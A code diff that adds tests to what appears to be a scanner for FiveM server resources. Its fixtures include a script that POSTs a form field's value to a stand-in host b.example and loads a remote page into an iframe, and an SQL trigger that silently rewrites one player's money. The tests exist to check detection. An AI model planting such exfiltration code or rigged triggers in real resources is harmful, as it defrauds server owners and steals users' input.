@@ -87,3 +87,28 @@ test.each([
   expect(scan({ [path]: text }).findings.map((finding) => finding.rule)).toEqual([rule])
   expect(scan(harmless).findings).toEqual([])
 })
+
+test('what a page does depends on the markup of its other files', () => {
+  const files = {
+    'fxmanifest.lua': `${manifest}ui_page 'index.html'\nfiles { 'index.html', 'page.js' }`,
+    'page.js': `const frame = document.getElementById('app')\nframe.src = 'https://a.example/app'\nfetch('https://b.example', { method: 'POST', body: find('name').value })`,
+  }
+  const found = (markup: string) =>
+    scan({ ...files, 'index.html': markup }).findings.map(({ rule, line }) => `${rule} ${line}`)
+
+  expect(found('<p id="app"></p>')).toEqual([])
+  expect(found('<iframe id="app"></iframe>')).toEqual(['remote-page 2'])
+  expect(found('<input type="password">')).toEqual(['sends-data 3'])
+})
+
+test('a trigger of the database for one player', () => {
+  const { findings } = scan({
+    'fxmanifest.lua': manifest,
+    'install.sql': `CREATE TABLE a (id INT);\nCREATE TRIGGER b BEFORE UPDATE ON users FOR EACH ROW\nSET NEW.money = IF(NEW.identifier = 'license:5f3a9c01d2', 1, NEW.money);`,
+    'example.sql': `INSERT INTO users VALUES ('license:5f3a9c01d2');`,
+  })
+
+  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toEqual([
+    'fixed-player install.sql:2',
+  ])
+})
